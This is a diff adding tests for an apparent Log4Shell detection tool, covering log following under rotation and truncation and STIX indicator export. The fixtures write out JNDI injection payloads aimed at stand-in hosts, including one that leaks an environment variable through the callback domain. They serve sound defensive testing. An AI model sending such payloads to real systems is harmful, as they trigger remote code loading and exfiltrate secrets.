@@ -536,6 +536,105 @@ class Follow(Case):
                 lines.append(json.loads(line))
         return lines
 
+    def begin(self, *args):
+        p = subprocess.Popen([TOOL, "hunt", "--follow", "--format", "jsonl", *args], stdout=subprocess.PIPE, env=env_of())
+        self.addCleanup(p.stdout.close)
+        self.addCleanup(p.wait, 20)
+        self.addCleanup(p.kill)
+        return p
+
+    def end(self, p):
+        p.send_signal(signal.SIGTERM)
+        rest = [json.loads(x) for x in p.stdout.read().splitlines()]
+        self.assertIn(p.wait(20), (0, 2))
+        return rest[:-1], rest[-1]["summary"]
+
+    def hosts(self, rows):
+        return [(r["callback"]["host"], r["line"]) for r in rows]
+
+    def attempt(self, name):
+        return access("${jndi:ldap://%s.example/a}" % name)
+
+    def test_copy_and_truncate(self):
+        """As logrotate's copytruncate does it; the log may have grown beyond its old length since."""
+        path = self.put("x.log", self.attempt("one") + self.attempt("two")[:-1])  # the last line is unfinished
+        p = self.begin(path)
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("one.example", 1)])
+        shutil.copy(path, path + ".1")
+        os.truncate(path, 0)
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 2)])
+        with open(path, "a") as f:
+            f.write(self.attempt("three") + access() * 2)
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("three.example", 1)])
+        time.sleep(0.2)  # it has read on and sleeps
+        p.send_signal(signal.SIGSTOP)
+        with open(path, "r+") as f:  # truncated and longer than before when it is looked at
+            f.truncate(0)
+            f.write(access(at="14/Dec/2021:00:00:00 +0900") * 20 + self.attempt("four"))
+        p.send_signal(signal.SIGCONT)
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("four.example", 21)])
+        self.assertEqual(self.end(p)[0], [])
+
+    def test_packed_after_rotation(self):
+        path = self.put("x.log", self.attempt("one"))
+        p = self.begin(path)
+        self.wait_for(p, 1)
+        with open(path, "a") as f:
+            f.write(self.attempt("two"))
+        os.rename(path, path + ".1")
+        subprocess.run(["gzip", path + ".1"], check=True)
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 2)])
+        self.put("x.log", self.attempt("three"))
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("three.example", 1)])
+        self.assertEqual(self.end(p)[1]["incomplete_count"], 0)
+
+    def test_rotated_twice_while_it_is_stopped(self):
+        path = self.put("x.log", self.attempt("one"))
+        p = self.begin(path)
+        self.wait_for(p, 1)
+        time.sleep(0.2)  # it has read on and sleeps
+        p.send_signal(signal.SIGSTOP)
+        with open(path, "a") as f:
+            f.write(self.attempt("two"))
+        os.rename(path, path + ".1")
+        self.put("x.log", self.attempt("three"))
+        os.rename(path + ".1", path + ".2")
+        os.rename(path, path + ".1")
+        self.put("x.log", self.attempt("four"))
+        p.send_signal(signal.SIGCONT)
+        self.assertEqual(self.hosts(self.wait_for(p, 3)), [("two.example", 2), ("three.example", 1), ("four.example", 1)])
+        self.end(p)
+
+    def test_deleted_and_back(self):
+        path = os.path.join(self.dir, "x.log")
+        p = self.begin(path)
+        time.sleep(0.3)
+        self.put("x.log", self.attempt("one"))  # it was not there yet
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("one.example", 1)])
+        os.unlink(path)
+        time.sleep(0.7)
+        self.put("x.log", access() + self.attempt("two"))
+        self.assertEqual(self.hosts(self.wait_for(p, 1)), [("two.example", 2)])
+        s = self.end(p)[1]
+        self.assertEqual([i["path"] for i in s["incomplete"]], [path])
+
+    def test_the_last_line_at_the_end(self):
+        path = self.put("x.log", self.attempt("one") + self.attempt("two")[:-1])
+        p = self.begin(path)
+        self.wait_for(p, 1)
+        time.sleep(0.7)
+        rows, s = self.end(p)
+        self.assertEqual((self.hosts(rows), s["lines"]), ([("two.example", 2)], 2))
+
+    def test_what_is_not_followed_is_said(self):
+        packed = self.put("x.gz", gzip.compress(self.attempt("one").encode()))
+        p = self.begin(packed, self.dir)
+        time.sleep(0.7)
+        rows, s = self.end(p)
+        self.assertEqual(rows, [])
+        self.assertEqual(sorted(i["path"] for i in s["incomplete"]), sorted([packed, self.dir]))
+        self.assertIn("without --follow", json.dumps(s["incomplete"]))
+
     def test_rotation_and_truncation(self):
         path = self.put("x.log", access("${jndi:ldap://one.example/a}"))
         p = subprocess.Popen([TOOL, "hunt", "--follow", "--format", "jsonl", "--no-summary", path], stdout=subprocess.PIPE,
@@ -710,6 +809,30 @@ class Outbound(Case):
         self.assertEqual(r.returncode, 2)
         self.assertIn("no column for an address", r.stderr.decode())
 
+    def stix(self, bundle):
+        """What the STIX 2.1 specification asks of a bundle (8) and of an indicator (4.7), and its identifiers (2.9) and times (3.2)."""
+        uuid = r"[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"
+        when = r"^[0-9]{4}-[01][0-9]-[0-3][0-9]T[0-2][0-9]:[0-5][0-9]:[0-6][0-9](\.[0-9]+)?Z$"
+        self.assertEqual(set(bundle) - {"objects"}, {"type", "id"})
+        self.assertEqual(bundle["type"], "bundle")
+        self.assertRegex(bundle["id"], "^bundle--" + uuid)
+        self.assertNotEqual(bundle.get("objects"), [])
+        for o in bundle.get("objects", ()):
+            self.assertEqual(set(o), {"type", "spec_version", "id", "created", "modified", "name", "pattern", "pattern_type", "valid_from",
+                                      "indicator_types"})
+            self.assertEqual((o["type"], o["spec_version"], o["pattern_type"]), ("indicator", "2.1", "stix"))
+            self.assertRegex(o["id"], "^indicator--" + uuid)
+            for key in ("created", "modified", "valid_from"):
+                self.assertRegex(o[key], when)
+            self.assertGreaterEqual(o["modified"], o["created"])
+            self.assertRegex(o["pattern"], r"^\[(ipv4-addr|ipv6-addr|domain-name):value = '([^'\\]|\\.)+'\]$")
+            self.assertIn(o["indicator_types"], [["malicious-activity"]])
+
+    def test_no_indicators_out(self):
+        out = os.path.join(self.dir, "ioc.json")
+        self.assertEqual(run("--ioc-out", out, self.put("a.log", access())).returncode, 1)
+        self.stix(json.loads(read_text(out)))
+
     def test_indicators_out(self):
         path = self.put("a.log", access(PAYLOAD) + access("${jndi:dns://x.probe.example}") + access("${jndi:ldap://${env:U}.q.example/a}"))
         out = os.path.join(self.dir, "ioc.csv")
@@ -717,14 +840,16 @@ class Outbound(Case):
         rows = list(csv.DictReader(io.StringIO(read_text(out), newline="")))
         self.assertEqual({(r["type"], r["value"], r["role"]) for r in rows},
                          {("ipv4", "203.0.113.9", "call-back host"), ("domain", "x.probe.example", "call-back host"),
-                          ("ipv4", "198.51.100.23", "attacking client")})
+                          ("domain", "q.example", "call-back host"), ("ipv4", "198.51.100.23", "attacking client")})
         out = os.path.join(self.dir, "ioc.json")
         self.assertEqual(run("--ioc-out", out, path).returncode, 0)
         bundle = json.loads(read_text(out))
-        self.assertEqual(bundle["type"], "bundle")
-        for o in bundle["objects"]:
-            self.assertEqual((o["type"], o["spec_version"], o["pattern_type"]), ("indicator", "2.1", "stix"))
-            self.assertRegex(o["id"], r"^indicator--[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
+        self.stix(bundle)
+        ids = {o["pattern"]: o["id"] for o in bundle["objects"]}
+        self.assertEqual(len(set(ids.values())), 4)
+        self.assertEqual(run("--ioc-out", out, path).returncode, 0)
+        self.assertEqual({o["pattern"]: o["id"] for o in json.loads(read_text(out))["objects"]}, ids)  # the same in every run
+        self.assertIn("[domain-name:value = 'q.example']", ids)
         self.assertIn("[ipv4-addr:value = '203.0.113.9']", [o["pattern"] for o in bundle["objects"]])
 
 
